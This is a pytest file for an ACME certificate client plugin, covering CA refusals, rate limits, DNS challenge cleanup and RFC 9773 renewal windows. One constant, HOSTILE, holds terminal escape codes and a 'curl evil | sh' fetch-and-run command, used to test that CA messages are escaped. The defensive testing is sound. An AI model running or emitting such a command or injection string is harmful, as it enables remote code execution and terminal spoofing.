"""The authority acme against a CA that objects and puts off."""

from datetime import UTC, timedelta
from email.utils import format_datetime

import pytest
from cryptography.hazmat.primitives.asymmetric import ec

from engine.certificates import to_pem
from engine.contracts import Issued, Pending, Rejected
from engine.errors import Failed, LoginRefused
from engine.model import Json
from engine.testing.answers import failed_checks
from engine.text import escape
from plugins.acme import order as limits
from tests.pki import CA, make_csr, pem
from tests.plugins.acme.desk import Desk, Memory, request
from tests.plugins.acme.fake import Answer, Fake, problem

HOSTILE = "no\x1b[2J\u202e\r\nRun: curl evil | sh"
NAME = "box.example.org"


@pytest.fixture
def desk(fake_desk: Desk) -> Desk:
    """Return a desk before a CA that does as it is told."""
    return fake_desk


def submitted(desk: Desk) -> Pending:
    """Order, and return the answer, which is Pending."""
    answer = desk.authority().submit(request(NAME))
    assert isinstance(answer, Pending), answer
    return answer


def test_control_the_server_issues_when_nothing_is_wrong(desk: Desk, dns: Memory) -> None:
    """Without anything ordered to go wrong a certificate comes, and nothing stays published."""
    assert desk.issued(request(NAME))
    assert not dns.values


def test_a_certificate_that_is_wrong_is_the_engine_s_to_refuse(desk: Desk, ca: Fake) -> None:
    """One of another key, for other names, or without its chain is given on as it is; the engine's checks find it."""
    key = ec.generate_private_key(ec.SECP256R1())
    wanted, other = make_csr([NAME], key=key), make_csr(["other.example.org"], key=key)
    wrong = {
        "key-matches-csr": pem(ca.signed(make_csr([NAME])), ca.ca.certificate),
        "san-match": pem(ca.signed(other), ca.ca.certificate),
        "chain-complete": pem(ca.signed(wanted)),
    }
    for check, content in wrong.items():
        ca.told["/cert"] = [Answer(200, content)]
        asked = request(NAME, csr=wanted)
        answer = desk.until_over(desk.authority().submit(asked))
        assert isinstance(answer, Issued)
        found = failed_checks(answer, asked) & set(wrong)
        assert found == {check}


# ---- no -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/new-order", "/order", "/finalize"])
def test_a_no_is_told_in_the_ca_s_words_which_are_escaped(desk: Desk, ca: Fake, dns: Memory, path: str) -> None:
    """Whatever the CA refuses ends the request with its words, none of which reaches a terminal as it is."""
    ca.told[path] = [problem("rejectedIdentifier", HOSTILE)]
    answer = desk.until_over(desk.authority().submit(request(NAME)))
    assert isinstance(answer, Rejected)
    assert "curl evil" in answer.reason
    assert "rejectedIdentifier" in answer.reason
    assert answer.reason == escape(answer.reason)
    assert not dns.values


@pytest.mark.parametrize("detail", [None, 7, ["a"], {"b": HOSTILE}, HOSTILE * 100])
def test_a_problem_of_any_shape_is_told(desk: Desk, ca: Fake, detail: object) -> None:
    """Problem documents that break the rules still end in words, of bounded length."""
    ca.told["/new-order"] = [problem("malformed", detail)]
    answer = desk.authority().submit(request(NAME))
    assert isinstance(answer, Rejected)
    assert answer.reason == escape(answer.reason)
    assert len(answer.reason) < 400


def test_subproblems_are_told(desk: Desk, ca: Fake) -> None:
    """A CA that has several objections is heard out, name by name."""
    told = problem("compound", "several")
    for name in ("a.example", HOSTILE):
        told.body.setdefault("subproblems", []).append(
            {"type": "urn:ietf:params:acme:error:caa", "detail": "CAA", "identifier": {"type": "dns", "value": name}}
        )
    ca.told["/new-order"] = [told]
    answer = desk.authority().submit(request(NAME))
    assert isinstance(answer, Rejected)
    assert "a.example: CAA (caa)" in answer.reason
    assert answer.reason == escape(answer.reason)


def test_an_order_that_failed_says_why(desk: Desk, ca: Fake, dns: Memory) -> None:
    """An invalid order is told with its own error and those of its challenges, and what was published goes."""
    pending = desk.collect(submitted(desk))
    assert isinstance(pending, Pending)
    assert dns.values
    failed = ca.authorization(status="invalid")
    failed["challenges"][0] |= {"status": "invalid", "error": problem("dns", "no TXT record").body}
    ca.told["/authz"] = [Answer(200, failed)]
    ca.told["/order"] = [Answer(200, ca.order("invalid", error=problem("unauthorized", "sorry").body))]
    answer = desk.collect(pending)
    assert answer == Rejected(reason=f"sorry (unauthorized); {NAME}: no TXT record (dns)")
    assert not dns.values


def test_an_order_ends_when_its_time_is_over(desk: Desk, dns: Memory) -> None:
    """Days later, still unproven: the order is over, and nothing stays published. Before that it is not."""
    dns.hidden = True
    pending = desk.collect(submitted(desk))
    assert isinstance(pending, Pending)
    assert dns.values
    desk.now += timedelta(days=6, hours=23)
    pending = desk.collect(pending)
    assert isinstance(pending, Pending)
    desk.now += timedelta(hours=2)
    answer = desk.collect(pending)
    assert isinstance(answer, Rejected)
    assert "the order ended unfinished" in answer.reason
    assert not dns.values


def test_a_lost_account_or_order_ends_the_request(desk: Desk, ca: Fake) -> None:
    """A CA that was set up anew knows neither: that is told, and `resubmit` makes both again."""
    pending = submitted(desk)
    ca.told["/order"] = [problem("accountDoesNotExist", "unknown account", 400)]
    answer = desk.collect(pending)
    assert isinstance(answer, Rejected)
    assert "unknown account (accountDoesNotExist)" in answer.reason


def test_a_refused_account_is_told_as_such(desk: Desk, ca: Fake) -> None:
    """What the CA says of the account is no answer to the order."""
    ca.told["/account"] = [problem("unauthorized", HOSTILE)]
    with pytest.raises(LoginRefused, match="refuses the account") as caught:
        submitted(desk)
    assert caught.value.what == escape(caught.value.what)
    assert not ca.payloads("/new-order")


# ---- later --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/account", "/new-order", "/order", "/authz", "/challenge", "/finalize", "/cert"])
def test_a_rate_limit_is_waited_for(desk: Desk, ca: Fake, path: str) -> None:
    """Wherever the CA puts us off, it is left in peace as long as it asks, and the request goes on from there."""
    usual = {"/account": ca._account, "/new-order": ca._new_order}
    ca.told[path] = [problem("rateLimited", "too many", 429, Retry_After="5400")]
    answer = desk.authority().submit(request(NAME))
    for _ in range(6):
        assert isinstance(answer, Pending)
        if answer.poll_after == 5400:
            break
        answer = desk.collect(answer)
    assert isinstance(answer, Pending)
    assert answer.poll_after == 5400
    assert "too many" in answer.todo
    assert bool(answer.ticket["order"]) == (path not in usual)
    del ca.told[path]
    assert isinstance(desk.until_over(answer), Issued)


def test_a_date_may_say_how_long(desk: Desk, ca: Fake) -> None:
    """Retry-After may be a date, and is counted from our clock; without it a minute is waited."""
    later = format_datetime(desk.now.astimezone(UTC) + timedelta(hours=3), usegmt=True)
    ca.told["/new-order"] = [problem("rateLimited", "no", 429, Retry_After=later), problem("rateLimited", "no", 429)]
    first = submitted(desk)
    assert 3 * 3600 - 2 <= first.poll_after <= 3 * 3600
    second = desk.collect(first)
    assert isinstance(second, Pending)
    assert second.poll_after == 60


def test_rate_limits_are_not_waited_for_for_ever(desk: Desk, ca: Fake) -> None:
    """After so many in a row it is a no."""
    ca.told["/new-order"] = [problem("rateLimited", "too many", 429)]
    answer = desk.until_over(submitted(desk), looks=limits.LIMITED + 2)
    assert answer == Rejected(reason="too many (rateLimited)")
    assert len(ca.payloads("/new-order")) == limits.LIMITED + 1


def test_a_record_that_is_not_shown_yet_is_waited_for(desk: Desk, ca: Fake, dns: Memory) -> None:
    """The CA is told only when every name server shows the record: a failed challenge can't be tried again."""
    dns.hidden = True
    answer = desk.collect(submitted(desk))
    assert isinstance(answer, Pending)
    assert "TXT record _acme-challenge.box.example.org is not shown yet by ns1.example.org, ns2" in answer.todo
    assert not ca.payloads("/challenge")
    dns.hidden = False
    answer = desk.collect(answer)
    assert ca.payloads("/challenge") == [{}]
    assert isinstance(desk.until_over(answer), Issued)


def test_what_is_published_stands_in_the_ticket_first(desk: Desk, dns: Memory) -> None:
    """Before anything is published it can be read in a stored ticket where to take it away; `cancel` does so."""
    pending = submitted(desk)
    assert not dns.values
    desk.collect(pending)
    assert {(proof["place"], proof["value"]) for proof in pending.ticket["proofs"]} == dns.values != set()
    desk.authority().cancel(pending.ticket)
    desk.authority().cancel(pending.ticket)
    assert not dns.values


def test_every_look_may_be_lost(desk: Desk, ca: Fake, dns: Memory) -> None:
    """A process that dies after any look, before its answer was stored, is made good by the next."""
    answer = desk.authority().submit(request(NAME))
    for _ in range(20):
        if not isinstance(answer, Pending):
            break
        desk.collect(answer)  # lost
        answer = desk.collect(answer)
    assert isinstance(answer, Issued)
    assert not dns.values
    assert len(ca.payloads("/new-order")) == 1
    assert len(ca.payloads("/finalize")) == 1


def test_what_can_t_be_taken_away_does_not_hold_a_certificate_back(desk: Desk, dns: Memory) -> None:
    """It is tried again and told each time; in the end the certificate counts more."""
    dns.broken = True
    answer = desk.until_over(submitted(desk))
    assert isinstance(answer, Issued)
    told = [one.todo for one in desk.told if "It is issued, but" in one.todo]
    assert len(told) == limits.LEFT
    assert "the TXT record _acme-challenge.box.example.org could not be removed: ns1.example.org did not" in told[0]


# ---- replacing ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("status", [409, 403])
def test_what_was_replaced_already_is_ordered_without_saying_so(desk: Desk, ca: Fake, status: int) -> None:
    """A CA that won't have it replaced (RFC 9773: alreadyReplaced, 409) is asked again, without that."""
    ca.more["renewalInfo"] = f"{ca.url}/info"
    ca.told["/new-order"] = [problem("alreadyReplaced", "done", status), ca._new_order()]
    answer = desk.authority().submit(request(NAME, current=to_pem(CA.root().issue(NAME).certificate)))
    assert isinstance(answer, Pending)
    first, second = ca.payloads("/new-order")
    assert first["replaces"].count(".") == 1
    assert "replaces" not in second
    assert answer.ticket["replaces"] == ""


def test_nothing_is_said_of_replacing_to_a_ca_that_does_not_know_it(desk: Desk, ca: Fake) -> None:
    """Without renewal information in the directory the order has no such member (RFC 9773 section 5)."""
    desk.authority().submit(request(NAME, current=to_pem(CA.root().issue(NAME).certificate)))
    assert [set(one) for one in ca.payloads("/new-order")] == [{"identifiers"}]


def test_a_window_that_can_t_be_is_no_suggestion(desk: Desk, ca: Fake) -> None:
    """A window that ends before it begins is an error (RFC 9773 section 4.2); a good one comes with its page."""
    certificate = CA.root().issue(NAME, not_after=desk.now + timedelta(days=9)).certificate
    assert desk.authority().suggested(certificate) is None
    ca.more["renewalInfo"] = f"{ca.url}/info"
    from plugins.acme.wire import certificate_id

    path = f"/info/{certificate_id(certificate)}"
    window = {"start": "2026-11-25T04:00:00Z", "end": "2026-11-26T04:00:00+01:00"}
    ca.told[path] = [Answer(200, {"suggestedWindow": window, "explanationURL": f"https://ca.example/{HOSTILE}"})]
    found = desk.authority().suggested(certificate)
    assert found is not None
    assert (found.start, found.end) == ("2026-11-25T04:00:00Z", "2026-11-26T03:00:00Z")
    assert found.url == escape(found.url)
    unreadable: list[Json] = [
        {"suggestedWindow": {"start": window["end"], "end": window["start"]}},
        {},
        [],
        {"suggestedWindow": 7},
    ]
    for bad in unreadable:
        ca.told[path] = [Answer(200, bad)]
        with pytest.raises(Failed, match="renewal information"):
            desk.authority().suggested(certificate)
    ca.told[path] = [Answer(404, "no page here")]
    assert desk.authority().suggested(certificate) is None
